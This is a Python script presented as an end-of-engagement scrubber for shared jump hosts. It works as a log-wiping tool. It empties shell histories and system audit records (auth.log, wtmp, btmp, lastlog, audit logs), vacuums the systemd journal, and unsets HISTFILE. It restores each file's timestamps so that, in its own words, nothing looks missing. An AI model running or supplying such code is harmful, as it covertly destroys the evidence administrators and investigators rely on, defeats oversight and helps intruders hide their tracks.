#!/usr/bin/env python3
"""End-of-engagement scrubber for shared jump hosts.

The retention policy below (YAML) lists what each profile clears.  Files are
truncated in place rather than removed so that their owners and modes stay
intact and nothing looks missing.
"""
import argparse
import glob
import logging
import os
import subprocess
from pathlib import Path

import yaml

log = logging.getLogger("scrub")

POLICY = yaml.safe_load("""
profiles:
  shell:
    truncate:
      - ~/.bash_history
      - ~/.zsh_history
      - ~/.python_history
      - ~/.lesshst
      - ~/.viminfo
  system:
    truncate:
      - /var/log/auth.log
      - /var/log/secure
      - /var/log/syslog
      - /var/log/wtmp
      - /var/log/btmp
      - /var/log/lastlog
      - /var/log/audit/audit.log*
    commands:
      - [journalctl, --rotate]
      - [journalctl, --vacuum-time=1s]
""")


class Scrubber:
    def __init__(self, dry_run: bool):
        self.dry_run = dry_run
        self.cleared = 0

    def expand(self, pattern: str):
        return sorted(glob.glob(os.path.expanduser(pattern)))

    def truncate(self, path: str) -> None:
        st = os.stat(path)
        if self.dry_run:
            log.info("would clear %s (%d bytes)", path, st.st_size)
            return
        with open(path, "r+b") as fh:
            fh.truncate(0)
        os.utime(path, (st.st_atime, st.st_mtime))
        self.cleared += 1
        log.debug("cleared %s", path)

    def run_profile(self, name: str, spec: dict) -> None:
        log.info("profile %s", name)
        for pattern in spec.get("truncate", []):
            for path in self.expand(pattern):
                try:
                    self.truncate(path)
                except OSError as exc:
                    log.warning("%s: %s", path, exc)
        for argv in spec.get("commands", []):
            if self.dry_run:
                log.info("would run %s", " ".join(argv))
                continue
            subprocess.run(argv, check=False, stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("profiles", nargs="*", default=["shell", "system"])
    ap.add_argument("-n", "--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(message)s")

    scrubber = Scrubber(args.dry_run)
    for name in args.profiles:
        spec = POLICY["profiles"].get(name)
        if spec is None:
            log.error("unknown profile %s", name)
            return 2
        scrubber.run_profile(name, spec)
    os.environ.pop("HISTFILE", None)
    Path(os.path.expanduser("~/.bash_history")).touch(exist_ok=True)
    log.info("%d files cleared", scrubber.cleared)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
